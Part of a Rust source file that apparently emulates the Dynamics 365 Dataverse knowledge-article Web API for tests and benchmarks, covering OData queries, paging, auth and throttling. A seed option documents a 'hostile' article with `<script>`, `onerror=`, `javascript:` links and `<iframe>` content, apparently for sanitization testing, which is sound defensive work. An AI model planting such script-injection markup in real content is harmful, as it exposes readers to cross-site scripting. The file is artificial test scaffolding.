//! Dynamics 365 knowledge articles through the Dataverse Web API, served beside `WhoAmI`
//! ([`super::dynamics365`]) at `/{org}.{crm_region}.dynamics.com/api/data/v9.x/…`, shaped as
//! Microsoft's references describe them: the `knowledgearticle` and `languagelocale`
//! EntityTypes (and the generated table references in MicrosoftDocs/powerapps-docs,
//! `reference/entities/knowledgearticle.md`: the `statecode`/`statuscode` options), "Query
//! data using the Web API", "Page results by using OData", "Service protection API limits"
//! and "Troubleshoot Dataverse Web API client errors" (error bodies). Microsoft publishes no
//! static `$metadata` (see `../shared/specs/MISSING.txt`). One knowledge base per
//! environment host, kept in memory ([`DynKbStore`]); an environment nobody seeded has no
//! articles and its languages all inactive but `en-US`.
//!
//! | Route name | Request (`GET`) | Answer |
//! |---|---|---|
//! | `dynamics365.kb_articles` | `/api/data/v9.x/knowledgearticles` with `$select`, `$filter`, `$orderby`, `$top`, `$count`, `$expand`, `$skiptoken`; `Prefer: odata.maxpagesize=N`, `odata.include-annotations` | `{"@odata.context", ["@odata.count",] "value": [...], ["@odata.nextLink"]}` |
//! | `dynamics365.kb_article` | `/api/data/v9.x/knowledgearticles({guid})` with `$select`, `$expand` | the record, `"@odata.context": …/$entity` |
//! | `dynamics365.kb_languagelocales` | `/api/data/v9.x/languagelocale` (the entity set is singular) with the list options | `{"@odata.context", "value": [{languagelocaleid, code, language, region, name, localeid, statecode, statuscode}]}` |
//!
//! Records (`knowledgearticle`): `knowledgearticleid title content description keywords
//! articlepublicnumber statecode statuscode isrootarticle islatestversion isprimary
//! isinternal majorversionnumber minorversionnumber _languagelocaleid_value
//! _parentarticlecontentid_value _rootarticleid_value _previousarticlecontentid_value
//! _ownerid_value _createdby_value _modifiedby_value createdon modifiedon publishon
//! expirationdate knowledgearticleviews versionnumber`, each with `@odata.etag`
//! (`W/"{versionnumber}"`); times as `2024-01-15T09:00:00Z`. `statecode`: 0 Draft,
//! 1 Approved, 2 Scheduled, 3 Published, 4 Expired, 5 Archived, 6 Discarded; `statuscode`
//! as Microsoft's table (2 Draft, 7 Published, 12 Archived, …). With `Prefer:
//! odata.include-annotations="OData.Community.Display.V1.FormattedValue"` (or `"*"`),
//! `statecode`, `statuscode`, the booleans and `_languagelocaleid_value` carry
//! `@OData.Community.Display.V1.FormattedValue` labels, and lookups (with
//! `Microsoft.Dynamics.CRM.lookuplogicalname` or `"*"`) their
//! `@Microsoft.Dynamics.CRM.lookuplogicalname`.
//!
//! Versions and translations, as Dynamics keeps them: every article has a **root** record
//! (`isrootarticle: true`, Draft, no `content`) and one record per version per language,
//! all with the root's `articlepublicnumber` and `_rootarticleid_value`. A primary-language
//! version has `isprimary: true` and the root as `_parentarticlecontentid_value`; a
//! translation is a record with its own `_languagelocaleid_value` whose
//! `_parentarticlecontentid_value` is the primary version it was translated from. A new
//! version ([`SandboxState::dyn_kb_publish_new_version`]) is a new record (minor `1.0 →
//! 1.1`, or major `→ 2.0`) that takes `islatestversion` from its predecessor; when it is
//! published, the previously published version of that language becomes **Archived**
//! (`statecode 5`, `statuscode 12`, new `modifiedon`). So an importer lists `statecode eq 3
//! and isrootarticle eq false` and learns of replaced versions by their archiving, of
//! archived or expired ones by `modifiedon`, and of hard deletes
//! ([`SandboxState::dyn_kb_delete`]) only by a full listing: Dataverse keeps no tombstones
//! for this query (change tracking is not enabled for `knowledgearticle` here).
//!
//! Query options (Dataverse's subset of OData 4.0):
//! - `$select`: comma-separated property names (case-sensitive). An unknown one: 400
//!   `{"error":{"code":"0x0","message":"Could not find a property named 'X' on type
//!   'Microsoft.Dynamics.CRM.knowledgearticle'."}}` as Microsoft's troubleshooting page
//!   shows. The primary key is always returned. Navigation properties are not selectable.
//! - `$filter`: `eq ne gt ge lt le` between a property and a literal (integers, `'text'`
//!   with `''` escapes, `true`/`false`, `null`, unquoted date-times such as
//!   `2024-01-01T00:00:00Z` or dates, unquoted GUIDs for keys and lookups), `and`, `or`,
//!   `not`, parentheses, `contains`/`startswith`/`endswith(prop,'text')`. Text compares
//!   case-insensitively (Dataverse's collation). Unknown property: the 400 above; a literal
//!   of the wrong type (`statecode eq '3'`, a quoted GUID): 400 `0x0` "A binary operator
//!   with incompatible types was detected. Found operand types 'Edm.Int32' and
//!   'Edm.String' for operator kind 'Equal'."; anything else malformed: 400 `0x80060888`
//!   "Syntax error at position N in '…'.".
//! - `$orderby`: `prop [asc|desc]`, comma-separated; the primary key (ascending) always
//!   breaks ties, so pages are deterministic. Nulls sort first (SQL Server's order).
//!   Without `$orderby` rows come by `knowledgearticleid`.
//! - `$top` (1–5,000; more is cut to 5,000): at most that many rows and no
//!   `@odata.nextLink`; `odata.maxpagesize` is then not applied. `$top` with `$count`: 400
//!   (Microsoft: `$top` cannot be used with `$count`).
//! - Paging: `Prefer: odata.maxpagesize=N` (1–5,000; absent, larger or malformed: 5,000
//!   rows a page, Microsoft's default and maximum). When applied the answer carries
//!   `Preference-Applied: odata.maxpagesize=N`. While rows remain, `@odata.nextLink` is this
//!   URL with `$skiptoken=<cookie pagenumber="2" pagingcookie="…" istracking="False" />`
//!   (Dataverse's shape; the paging cookie here is opaque base64, not Dataverse's XML). The
//!   cookie holds the last row's sort values and id, so pages survive inserts, updates
//!   and deletes between requests (keyset, like Dataverse's paging cookies), and it is
//!   bound to the `$filter`/`$orderby` it came from; a tampered or foreign one: 400
//!   `0x80060888`. The client must send `Prefer` again with each nextLink (Dataverse
//!   does not carry the page size in the link).
//! - `$count=true`: `@odata.count`, capped at 5,000 as Dataverse caps it.
//! - `$expand`: `languagelocaleid`, `rootarticleid`, `parentarticlecontentid`,
//!   `previousarticlecontentid`, each optionally with `($select=…)`, e.g.
//!   `$expand=languagelocaleid($select=code)` → `"languagelocaleid": {"@odata.etag": …,
//!   "code": "en-US", "languagelocaleid": "…"}` (null for an empty lookup). Other
//!   navigation properties: the unknown-property 400; nested options other than `$select`:
//!   400 `0x80060888`.
//! - `$skip`, `$search`, `$apply`, `$format`, `$levels` and any other `$…` option: 400
//!   `0x80060888` "The query parameter '$skip' is not supported." (Dataverse does not
//!   support `$skip`); options without `$` are ignored, as OData ignores custom options.
//!
//! Auth, as `WhoAmI`: an OAuth access token from the sandbox's Microsoft identity platform
//! whose audience is this environment (`https://{env}/user_impersonation` or `/.default`),
//! else 401 with an empty body and `WWW-Authenticate: Bearer authorization_uri=…,
//! resource_id=https://{env}/`. A show of an unknown id: 404 `0x80040217` "knowledgearticle
//! With Id = {id} Does Not Exist"; a malformed key: 400 `0x80060888`.
//!
//! Service protection (Microsoft: per user, per web server, a 5-minute sliding window of
//! 6,000 requests, 20 minutes of combined execution time and 52 concurrent requests): the
//! request count is enforced per user and environment over a rolling 300 s window
//! ([`DEFAULT_REQUESTS_PER_WINDOW`], [`SandboxState::dyn_kb_set_request_limit`] makes it
//! small); past it, or while a [`SandboxState::dyn_throttle_next`] storm lasts: 429
//! `{"error":{"code":"0x80072322","message":"Number of requests exceeded the limit of 6000
//! over time window of 300 seconds."}}` with `Retry-After` (whole seconds). Requests are
//! counted after authentication (limits are per user). Every answer carries
//! `x-ms-ratelimit-burst-remaining-xrm-requests` (requests left in the window) and
//! `OData-Version: 4.0`. Only these knowledge routes count; `WhoAmI` does not.
//!
//! State and knobs ([`SandboxState`]): [`SandboxState::seed_dynamics_kb`]
//! ([`DynKbSeed`] → [`DynKbSummary`]), [`SandboxState::dyn_kb_publish_new_version`],
//! [`SandboxState::dyn_kb_publish`], [`SandboxState::dyn_kb_translate`],
//! [`SandboxState::dyn_kb_update`], [`SandboxState::dyn_kb_archive`],
//! [`SandboxState::dyn_kb_delete`], [`SandboxState::dyn_kb_articles`],
//! [`SandboxState::dyn_kb_article`], [`SandboxState::dyn_kb_languages`],
//! [`SandboxState::dyn_kb_set_request_limit`], [`SandboxState::dyn_throttle_next`] and the
//! environment's clock ([`SandboxState::dyn_kb_now`], [`SandboxState::dyn_kb_advance_clock`]).
//! `org` is an environment host (`acme.crm4.dynamics.com`) or a bare org name, which means
//! `{org}.crm.dynamics.com`. `modifiedon` has whole seconds, as the Web API prints it: two
//! changes in one second share it, so an incremental client filters with `ge` on its
//! checkpoint (or `gt` on a checkpoint a second back) and de-duplicates by id and
//! `versionnumber`.
//!
//! Not reproduced: security roles and privileges (every token of the environment reads
//! everything), the execution-time and concurrency service-protection limits,
//! `x-ms-ratelimit-time-remaining-xrm-requests`, every property the real table has beyond
//! the list above, `$apply`/FetchXML/saved queries, lambda operators and functions other
//! than the three above, `$filter` comparing two properties, alternate keys, the
//! `FullTextSearchKnowledgeArticle` action, writes through the Web API (`POST`/`PATCH`/
//! `DELETE`, `CreateKnowledgeArticleVersion`, `CreateKnowledgeArticleTranslation`: only
//! through the knobs), scheduled publishing and expiry by date, the `languagelocale`
//! single-record route, change tracking (`odata.track-changes`), the exact root-article
//! field values (here Draft without content).

// The error of most helpers here is the finished response.
#![allow(clippy::result_large_err)]

use std::cmp::Ordering;
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::time::{Duration, Instant};

use axum::http::header::CONTENT_TYPE;
use axum::http::{HeaderValue, Method, StatusCode};
use axum::response::Response;
use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};

use super::ProviderRequest;
use super::dynamics365::{audience_ok, unauthorized, web_api_error};
use crate::clock;
use crate::oauth::{self, AccessCheck, OAuthProvider};
use crate::ratelimit::{Policy, Verdict};
use crate::state::SandboxState;
use crate::wire;

/// Route name of `GET /api/data/v9.x/knowledgearticles`.
pub const KB_ARTICLES: &str = "dynamics365.kb_articles";
/// Route name of `GET /api/data/v9.x/knowledgearticles({id})`.
pub const KB_ARTICLE: &str = "dynamics365.kb_article";
/// Route name of `GET /api/data/v9.x/languagelocale`.
pub const KB_LANGUAGES: &str = "dynamics365.kb_languagelocales";

/// Rows a page holds by default and at most (Microsoft: 5,000 for standard tables).
pub const MAX_PAGE_SIZE: usize = 5_000;
/// The most `@odata.count` reports.
pub const COUNT_LIMIT: usize = 5_000;
/// Requests a user may make per 5-minute window by default (Microsoft: 6,000).
pub const DEFAULT_REQUESTS_PER_WINDOW: u64 = 6_000;
/// The service-protection window, seconds.
pub const WINDOW_SECS: u64 = 300;
/// Dataverse's error code for the request-count limit.
pub const TOO_MANY_REQUESTS_CODE: &str = "0x80072322";
/// DynamoDB's item size limit: the seed's large article is over it.
pub const DYNAMODB_ITEM_LIMIT: usize = 400 * 1024;

const SYNTAX_CODE: &str = "0x80060888";
const LIMIT_POLICY: &str = "DATAVERSE_REQUESTS_PER_5_MIN";
/// The default Dynamics user (owner, creator and modifier of seeded content).
const OWNER_ID: &str = "7d4a9f52-2f6b-4c3e-9b1a-0c1d2e3f4a51";
/// 2024-01-01T00:00:00Z: seeded content is created from here on.
const SEED_EPOCH: i64 = 1_704_067_200;
const LARGE_BODY_BYTES: usize = 460 * 1024;
const FORMATTED: &str = "OData.Community.Display.V1.FormattedValue";
const LOOKUP_NAME: &str = "Microsoft.Dynamics.CRM.lookuplogicalname";

/// A knowledge route.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum KbRoute {
    /// `knowledgearticles`.
    Articles,
    /// `knowledgearticles({id})`.
    Article,
    /// `languagelocale`.
    Languages,
}

impl KbRoute {
    /// The route's counter name.
    pub(crate) fn name(self) -> &'static str {
        match self {
            KbRoute::Articles => KB_ARTICLES,
            KbRoute::Article => KB_ARTICLE,
            KbRoute::Languages => KB_LANGUAGES,
        }
    }
}

/// `(prefix "/api/data/v9.x", entity segment)` of a Web API path.
pub(crate) fn split_path(path: &str) -> Option<(&str, &str)> {
    let rest = path.strip_prefix("/api/data/v9.")?;
    let (minor, segment) = rest.split_once('/')?;
    if minor.is_empty() || !minor.bytes().all(|b| b.is_ascii_digit()) {
        return None;
    }
    let prefix_len = "/api/data/v9.".len() + minor.len();
    Some((&path[..prefix_len], segment))
}

/// Matches a `GET` to a knowledge route.
pub(crate) fn route(req: &ProviderRequest) -> Option<KbRoute> {
    if req.method != Method::GET {
        return None;
    }
    let (_, segment) = split_path(&req.path)?;
    match segment {
        "knowledgearticles" => Some(KbRoute::Articles),
        "languagelocale" => Some(KbRoute::Languages),
        s if s.starts_with("knowledgearticles(") && s.ends_with(')') => Some(KbRoute::Article),
        _ => None,
    }
}

// ---------------------------------------------------------------------------------------
// Public content types
// ---------------------------------------------------------------------------------------

/// A `knowledgearticle` record as the stand-in keeps it (times in epoch seconds).
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct DynKbArticle {
    /// `knowledgearticleid` (GUID, lower case).
    pub id: String,
    /// `title`.
    pub title: String,
    /// `content` (HTML); `None` on root records.
    pub content: Option<String>,
    /// `description`.
    pub description: Option<String>,
    /// `keywords` (comma-separated).
    pub keywords: Option<String>,
    /// `articlepublicnumber`, shared by every version and translation (`KA-01000`).
    pub article_public_number: String,
    /// `statecode` (0 Draft … 6 Discarded).
    pub state_code: i64,
    /// `statuscode`.
    pub status_code: i64,
    /// `isrootarticle`.
    pub is_root_article: bool,
    /// `islatestversion`.
    pub is_latest_version: bool,
    /// `isprimary`: the primary language's content.
    pub is_primary: bool,
    /// `isinternal`.
    pub is_internal: bool,
    /// `majorversionnumber`.
    pub major_version: i64,
    /// `minorversionnumber`.
    pub minor_version: i64,
    /// `_languagelocaleid_value`.
    pub language_locale_id: Option<String>,
    /// `_parentarticlecontentid_value`.
    pub parent_article_content_id: Option<String>,
    /// `_rootarticleid_value` (`None` on root records).
    pub root_article_id: Option<String>,
    /// `_previousarticlecontentid_value`: the version this one replaced.
    pub previous_article_content_id: Option<String>,
    /// `createdon`.
    pub created_on: i64,
    /// `modifiedon`.
    pub modified_on: i64,
    /// `publishon`: when it was last published.
    pub publish_on: Option<i64>,
    /// `knowledgearticleviews`.
    pub views: i64,
    /// `versionnumber`: the row version, bumped by every change (the etag).
    pub version_number: i64,
}

/// A `languagelocale` record.
#[derive(Clone, Debug, PartialEq, Eq, Serialize)]
pub struct DynKbLanguage {
    /// `languagelocaleid`.
    pub id: String,
    /// `code`, e.g. `en-US`.
    pub code: String,
    /// `localeid` (the LCID, e.g. 1033).
    pub locale_id: i64,
    /// `language`, e.g. `English`.
    pub language: String,
    /// `region`, e.g. `United States`.
    pub region: String,
    /// `name`, e.g. `English (United States)`.
    pub name: String,
    /// Enabled for knowledge management (`statecode` 0 Active, else 1 Inactive).
    pub active: bool,
}

/// What [`SandboxState::seed_dynamics_kb`] puts in an environment. Deterministic for a
/// `seed`. As JSON every member is optional.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(default)]
pub struct DynKbSeed {
    /// Articles (roots), the large and the hostile one included (default 200).
    pub articles: usize,
    /// Enabled language codes, the first the primary one (default `en-US`, `fr-FR`,
    /// `de-DE`). Known: en-US fr-FR de-DE es-ES it-IT nl-NL pt-BR ja-JP sv-SE da-DK fi-FI
    /// nb-NO pl-PL zh-CN; others are skipped.
    pub languages: Vec<String>,
    /// Every n-th article is translated into every other language (default 3; 0: none).
    pub translated_every: usize,
    /// Every n-th article is only a draft, never published (default 10; 0: none).
    pub draft_every: usize,
    /// Every n-th article has an archived version 1.0 and a published 1.1 (default 5;
    /// 0: none).
    pub revised_every: usize,
    /// Make the first article's published content larger than [`DYNAMODB_ITEM_LIMIT`].
    pub large_article: bool,
    /// Make one article's content hostile: `<script>`, `onerror=`, `javascript:` links, an
    /// `<iframe>`, `onmouseover=` among ordinary paragraphs.
    pub hostile_article: bool,
    /// The seed for ids, texts and times.
    pub seed: u64,
}

impl Default for DynKbSeed {
    fn default() -> Self {
        Self {
            articles: 200,
            languages: vec!["en-US".to_owned(), "fr-FR".to_owned(), "de-DE".to_owned()],
            translated_every: 3,
            draft_every: 10,
            revised_every: 5,
            large_article: false,
            hostile_article: false,
            seed: 1,
        }
    }
}

/// What a seeded environment holds (ids are `knowledgearticleid`s).
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct DynKbSummary {
    /// The environment host, e.g. `acme.crm.dynamics.com`.
    pub environment: String,
    /// Enabled languages: code → `languagelocaleid`.
    pub languages: BTreeMap<String, String>,
    /// Root records, in creation order.
    pub root_ids: Vec<String>,
    /// Published records (`statecode` 3), every language, in creation order.
    pub published_ids: Vec<String>,
    /// Draft records.
    pub draft_ids: Vec<String>,
    /// Archived records (replaced versions).
    pub archived_ids: Vec<String>,
    /// Published records in a language other than the primary one.
    pub translation_ids: Vec<String>,
    /// Every record, roots included.
    pub records: usize,
    /// The published record whose content is over [`DYNAMODB_ITEM_LIMIT`], if asked for.
    pub large_article_id: Option<String>,
    /// The published record with hostile HTML, if asked for.
    pub hostile_article_id: Option<String>,
    /// Earliest `modifiedon` (epoch seconds).
    pub oldest_modified_on: Option<i64>,
    /// Latest `modifiedon` (epoch seconds).
    pub newest_modified_on: Option<i64>,
}

/// A new version or translation ([`SandboxState::dyn_kb_publish_new_version`],
/// [`SandboxState::dyn_kb_translate`]); `None` members keep the source's text.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct DynKbVersion {
    /// A major version (`2.0`) rather than a minor one (`1.1`).
    pub major: bool,
    /// New title.
    pub title: Option<String>,
    /// New HTML content.
    pub content: Option<String>,
    /// Publish it now (archiving the published version it replaces); else a draft.
    pub publish: bool,
}

/// An in-place change ([`SandboxState::dyn_kb_update`]); `None` members are kept.
#[derive(Clone, Debug, Default, PartialEq, Eq, Deserialize)]
#[serde(default)]
pub struct DynKbChange {
    /// New title.
    pub title: Option<String>,
    /// New HTML content.
    pub content: Option<String>,
    /// New description.
    pub description: Option<String>,
    /// New keywords.
    pub keywords: Option<String>,
}

// ---------------------------------------------------------------------------------------
// Store
// ---------------------------------------------------------------------------------------

/// Every environment's knowledge base and knobs.
#[derive(Debug, Default)]
pub struct DynKbStore {
    envs: BTreeMap<String, KbEnv>,
    knobs: BTreeMap<String, Knobs>,
}

/// Per-environment knobs; they outlive reseeding.
#[derive(Clone, Copy, Debug)]
struct Knobs {
    limit: u64,
    throttle_left: u32,
    throttle_retry_after: u64,
    clock_offset: i64,
}

impl Default for Knobs {
    fn default() -> Self {
        Self {
            limit: DEFAULT_REQUESTS_PER_WINDOW,
            throttle_left: 0,
            throttle_retry_after: 1,
            clock_offset: 0,
        }
    }
}

impl DynKbStore {
    fn knobs(&self, env: &str) -> Knobs {
        self.knobs.get(env).copied().unwrap_or_default()
    }

    fn knobs_mut(&mut self, env: &str) -> &mut Knobs {
        self.knobs.entry(env.to_owned()).or_default()
    }

    fn now(&self, env: &str) -> i64 {
        clock::now_ms().div_euclid(1000) + self.knobs(env).clock_offset
    }
}

/// One environment's knowledge base.
#[derive(Clone, Debug)]
struct KbEnv {
    articles: BTreeMap<String, DynKbArticle>,
    languages: Vec<DynKbLanguage>,
    /// Salt for ids of records created by the knobs.
    salt: u64,
    next_id: u64,
    next_row_version: i64,
}

impl KbEnv {
    fn empty(salt: u64) -> Self {
        Self {
            articles: BTreeMap::new(),
            languages: language_table(&["en-US".to_owned()]),
            salt,
            next_id: 1,
            next_row_version: 1_000_001,
        }
    }

    fn row_version(&mut self) -> i64 {
        self.next_row_version += 1;
        self.next_row_version
    }

    fn new_id(&mut self) -> String {
        self.next_id += 1;
        guid(self.salt ^ 0x5EED_0000_0000, self.next_id)
    }

    fn language(&self, code: &str) -> Option<&DynKbLanguage> {
        self.languages
            .iter()
            .find(|l| l.active && l.code.eq_ignore_ascii_case(code))
    }

    /// Archives every other published record of `root` in `language`.
    fn archive_siblings(&mut self, keep: &str, root: &str, language: &str, now: i64) {
        let siblings: Vec<String> = self
            .articles
            .values()
            .filter(|a| {
                a.id != keep
                    && a.state_code == 3
                    && a.root_article_id.as_deref() == Some(root)
                    && a.language_locale_id.as_deref() == Some(language)
            })
            .map(|a| a.id.clone())
            .collect();
        for id in siblings {
            let version = self.row_version();
            if let Some(a) = self.articles.get_mut(&id) {
                a.state_code = 5;
                a.status_code = 12;
                a.modified_on = now;
                a.version_number = version;
            }
        }
    }

    /// Publishes a record: `statecode` 3, its predecessor in the language archived.
    fn publish(&mut self, id: &str, now: i64) -> Option<DynKbArticle> {
        let (root, language) = {
            let a = self.articles.get(id).filter(|a| !a.is_root_article)?;
            (a.root_article_id.clone()?, a.language_locale_id.clone()?)
        };
        self.archive_siblings(id, &root, &language, now);
        let version = self.row_version();
        let a = self.articles.get_mut(id)?;
        a.state_code = 3;
        a.status_code = 7;
        a.publish_on = Some(now);
        a.modified_on = now;
        a.version_number = version;
        Some(a.clone())
    }

    /// A new record derived from `source`: a version (same language) or a translation.
    fn derive(
        &mut self,
        source_id: &str,
        language: Option<String>,
        change: DynKbVersion,
        now: i64,
    ) -> Option<DynKbArticle> {
        let source = self
            .articles
            .get(source_id)
            .filter(|a| !a.is_root_article)?
            .clone();
        let root = source.root_article_id.clone()?;
        let translation = language.is_some();
        let language = language.or_else(|| source.language_locale_id.clone())?;
        let (major, minor) = if translation {
            (source.major_version, source.minor_version)
        } else {
            // The next number after the highest version of this language.
            let (hi_major, hi_minor) = self
                .articles
                .values()
                .filter(|a| {
                    a.root_article_id.as_deref() == Some(root.as_str())
                        && a.language_locale_id.as_deref() == Some(language.as_str())
                })
                .map(|a| (a.major_version, a.minor_version))
                .max()
                .unwrap_or((source.major_version, source.minor_version));
            if change.major {
                (hi_major + 1, 0)
            } else {
                (hi_major, hi_minor + 1)
            }
        };
        let id = self.new_id();
        let version = self.row_version();
        for a in self.articles.values_mut() {
            if a.root_article_id.as_deref() == Some(root.as_str())
                && a.language_locale_id.as_deref() == Some(language.as_str())
                && a.is_latest_version
            {
                a.is_latest_version = false;
            }
        }
        let record = DynKbArticle {
            id: id.clone(),
            title: change.title.unwrap_or_else(|| source.title.clone()),
            content: change.content.or_else(|| source.content.clone()),
            description: source.description.clone(),
            keywords: source.keywords.clone(),
            article_public_number: source.article_public_number.clone(),
            state_code: 0,
            status_code: 2,
            is_root_article: false,
            is_latest_version: true,
            is_primary: !translation && source.is_primary,
            is_internal: source.is_internal,
            major_version: major,
            minor_version: minor,
            language_locale_id: Some(language),
            parent_article_content_id: if translation {
                Some(source.id.clone())
            } else {
                source.parent_article_content_id.clone()
            },
            root_article_id: Some(root),
            previous_article_content_id: (!translation).then(|| source.id.clone()),
            created_on: now,
            modified_on: now,
            publish_on: None,
            views: 0,
            version_number: version,
        };
        self.articles.insert(id.clone(), record);
        if change.publish {
            self.publish(&id, now)
        } else {
            self.articles.get(&id).cloned()
        }
    }
}

/// `org` or an environment host → the store key (an environment host, lower case).
fn env_key(org: &str) -> String {
    let org = org.trim().to_ascii_lowercase();
    if org.contains('.') {
        org
    } else {
        format!("{org}.crm.dynamics.com")
    }
}

// ---------------------------------------------------------------------------------------
// The public knobs
// ---------------------------------------------------------------------------------------

/// Dataverse knowledge articles and knobs, for tests and benchmarks.
impl SandboxState {
    /// Replaces the knowledge base of environment `org` (a host, or a bare org name for
    /// `{org}.crm.dynamics.com`) with seeded content (see [`DynKbSeed`]): per article a
    /// root record and its primary-language version(s) (some revised: an archived 1.0 and
    /// a published 1.1; some only drafts), translations into every other enabled language
    /// for a share of them, HTML contents of a few KB, optionally one over 400 KB and one
    /// hostile. 10,000 articles take a fraction of a second. Knobs are kept.
    pub fn seed_dynamics_kb(&self, org: &str, seed: DynKbSeed) -> DynKbSummary {
        let env = env_key(org);
        let (kb, mut summary) = build_env(&env, &seed);
        summary.environment.clone_from(&env);
        self.dynamics_kb_store().envs.insert(env, kb);
        summary
    }

    /// Creates a new version of the record `id` (a primary-language or translated
    /// version): a new record with the next minor (or major) number, `islatestversion`
    /// moved to it, `_previousarticlecontentid_value` = `id`; published at once if asked
    /// (the language's published version becomes Archived), else a draft. `None` for an
    /// unknown id or a root record.
    pub fn dyn_kb_publish_new_version(
        &self,
        org: &str,
        id: &str,
        version: DynKbVersion,
    ) -> Option<DynKbArticle> {
        self.with_kb_env(org, |kb, now| {
            kb.derive(&id.to_ascii_lowercase(), None, version, now)
        })
        .flatten()
    }

    /// Publishes a draft (or re-publishes an archived) record; the language's previously
    /// published version becomes Archived. `None` for an unknown id or a root record.
    pub fn dyn_kb_publish(&self, org: &str, id: &str) -> Option<DynKbArticle> {
        self.with_kb_env(org, |kb, now| kb.publish(&id.to_ascii_lowercase(), now))
            .flatten()
    }

    /// Translates the record `id` into the enabled language `code`: a new record with
    /// that `_languagelocaleid_value`, `id` as its parent, the same root and version
    /// numbers; published if asked. `None` for an unknown id, a root, or a language that
    /// is not enabled.
    pub fn dyn_kb_translate(
        &self,
        org: &str,
        id: &str,
        code: &str,
        version: DynKbVersion,
    ) -> Option<DynKbArticle> {
        self.with_kb_env(org, |kb, now| {
            let language = kb.language(code)?.id.clone();
            kb.derive(&id.to_ascii_lowercase(), Some(language), version, now)
        })
        .flatten()
    }

    /// Changes a record in place (title, content, description, keywords), bumping
    /// `modifiedon` and `versionnumber`. `None` for an unknown id.
    pub fn dyn_kb_update(&self, org: &str, id: &str, change: DynKbChange) -> Option<DynKbArticle> {
        self.with_kb_env(org, |kb, now| {
            let version = kb.row_version();
            let a = kb.articles.get_mut(&id.to_ascii_lowercase())?;
            if let Some(title) = change.title {
                a.title = title;
            }
            if let Some(content) = change.content {
                a.content = Some(content);
            }
            if let Some(description) = change.description {
                a.description = Some(description);
            }
            if let Some(keywords) = change.keywords {
                a.keywords = Some(keywords);
            }
            a.modified_on = now;
            a.version_number = version;
            Some(a.clone())
        })
        .flatten()
    }

    /// Archives a published record (`statecode` 5, `statuscode` 12, new `modifiedon`):
    /// unpublished, still listed. `false` when it is not a published record.
    pub fn dyn_kb_archive(&self, org: &str, id: &str) -> bool {
        self.with_kb_env(org, |kb, now| {
            let version = kb.row_version();
            match kb.articles.get_mut(&id.to_ascii_lowercase()) {
                Some(a) if a.state_code == 3 => {
                    a.state_code = 5;
                    a.status_code = 12;
                    a.modified_on = now;
                    a.version_number = version;
                    true
                }
                _ => false,
            }
        })
        .unwrap_or(false)
    }

    /// Hard-deletes a record: simply gone, no tombstone. Deleting a root deletes every
    /// version and translation of its article. Answers how many records went.
    pub fn dyn_kb_delete(&self, org: &str, id: &str) -> usize {
        let id = id.to_ascii_lowercase();
        self.with_kb_env(org, |kb, _| {
            let before = kb.articles.len();
            let is_root = kb.articles.get(&id).is_some_and(|a| a.is_root_article);
            if is_root {
                kb.articles
                    .retain(|k, a| *k != id && a.root_article_id.as_deref() != Some(id.as_str()));
            } else {
                kb.articles.remove(&id);
            }
            before - kb.articles.len()
        })
        .unwrap_or(0)
    }

    /// Every record of the environment (roots too), by id.
    pub fn dyn_kb_articles(&self, org: &str) -> Vec<DynKbArticle> {
        self.dynamics_kb_store()
            .envs
            .get(&env_key(org))
            .map(|kb| kb.articles.values().cloned().collect())
            .unwrap_or_default()
    }

    /// One record.
    pub fn dyn_kb_article(&self, org: &str, id: &str) -> Option<DynKbArticle> {
        self.dynamics_kb_store()
            .envs
            .get(&env_key(org))?
            .articles
            .get(&id.to_ascii_lowercase())
            .cloned()
    }

    /// The environment's `languagelocale` records (active and inactive).
    pub fn dyn_kb_languages(&self, org: &str) -> Vec<DynKbLanguage> {
        let env = env_key(org);
        let store = self.dynamics_kb_store();
        match store.envs.get(&env) {
            Some(kb) => kb.languages.clone(),
            None => language_table(&["en-US".to_owned()]),
        }
    }

    /// Requests each user may make per 5-minute window in `org` (at least 1; default
    /// [`DEFAULT_REQUESTS_PER_WINDOW`]).
    pub fn dyn_kb_set_request_limit(&self, org: &str, per_window: u64) {
        self.dynamics_kb_store().knobs_mut(&env_key(org)).limit = per_window.max(1);
    }

    /// The next `count` knowledge requests to `org` answer 429 `0x80072322` with
    /// `Retry-After: retry_after_secs` (at least 1), whatever the budget.
    pub fn dyn_throttle_next(&self, org: &str, count: u32, retry_after_secs: u64) {
        let mut store = self.dynamics_kb_store();
        let knobs = store.knobs_mut(&env_key(org));
        knobs.throttle_left = count;
        knobs.throttle_retry_after = retry_after_secs.max(1);
    }

    /// The environment's clock, epoch seconds (what the next change is stamped with).
    pub fn dyn_kb_now(&self, org: &str) -> i64 {
        self.dynamics_kb_store().now(&env_key(org))
    }

    /// Moves the environment's clock by `secs`.
    pub fn dyn_kb_advance_clock(&self, org: &str, secs: i64) {
        self.dynamics_kb_store()
            .knobs_mut(&env_key(org))
            .clock_offset += secs;
    }

    fn with_kb_env<R>(&self, org: &str, f: impl FnOnce(&mut KbEnv, i64) -> R) -> Option<R> {
        let env = env_key(org);
        let mut store = self.dynamics_kb_store();
        let now = store.now(&env);
        store.envs.get_mut(&env).map(|kb| f(kb, now))
    }
}

// ---------------------------------------------------------------------------------------
// Serving
// ---------------------------------------------------------------------------------------

/// Serves a knowledge route: token, then service protection, then the query.
pub(crate) fn handle(route: KbRoute, state: &SandboxState, req: &ProviderRequest) -> Response {
    let grant = match oauth::bearer_access(
        state,
        OAuthProvider::Dynamics365,
        wire::bearer_token(&req.headers),
    ) {
        AccessCheck::Granted(grant) if audience_ok(&grant, &req.host) => grant,
        _ => return unauthorized(&req.host),
    };
    let remaining = match admit(state, &req.host, &grant.user.user_id) {
        Ok(remaining) => remaining,
        Err(refused) => return refused,
    };
    let mut response = match answer(route, state, req) {
        Ok(response) | Err(response) => response,
    };
    let headers = response.headers_mut();
    headers.insert("odata-version", HeaderValue::from_static("4.0"));
    headers.insert(
        "x-ms-ratelimit-burst-remaining-xrm-requests",
        HeaderValue::from(remaining),
    );
    response
}

/// Counts the request against the user's window, or refuses it.
fn admit(state: &SandboxState, env: &str, user: &str) -> Result<u64, Response> {
    let knobs = {
        let mut store = state.dynamics_kb_store();
        let knobs = store.knobs_mut(env);
        let before = *knobs;
